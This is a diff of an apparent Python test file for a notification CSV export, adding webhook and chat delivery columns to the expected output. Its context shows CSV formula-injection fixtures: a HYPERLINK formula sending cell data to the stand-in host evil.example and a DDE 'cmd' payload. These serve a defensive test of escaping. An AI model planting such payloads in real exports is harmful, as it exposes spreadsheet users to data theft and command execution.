@@ -30,7 +30,8 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C cal
 HARMLESS = ['plain, with a comma and "quotes"', "Grüße ✓ 日本", "line one\nline two", "1+1", "a=b"]
 CSV_COLUMNS = ["id", "type", "priority", "status", "title", "body", "data", "read_at", "created_at", "expires_at",
                "group_key", "group_count", "action_taken", "action_taken_at",
-               "delivery_in_app", "delivery_push", "delivery_email", "delivery_sms"]  # fmt: skip
+               "delivery_in_app", "delivery_push", "delivery_email", "delivery_webhook", "delivery_chat",
+               "delivery_sms"]  # fmt: skip
 
 
 def headers(user: uuid.UUID) -> dict[str, str]:
@@ -123,7 +124,8 @@ def neutralised(value: str) -> str:
 
 def csv_row(item: dict[str, Any]) -> list[str]:
     """What the export's CSV line of a history item must say (data compared as JSON by the caller)."""
-    flat = {**item, **{f"delivery_{c}": item["delivery_status"].get(c) for c in ("in_app", "push", "email", "sms")}}
+    channels = ("in_app", "push", "email", "webhook", "chat", "sms")
+    flat = {**item, **{f"delivery_{c}": item["delivery_status"].get(c) for c in channels}}
     return [neutralised("" if flat[c] is None else str(flat[c])) if c != "data" else "" for c in CSV_COLUMNS]
 
 
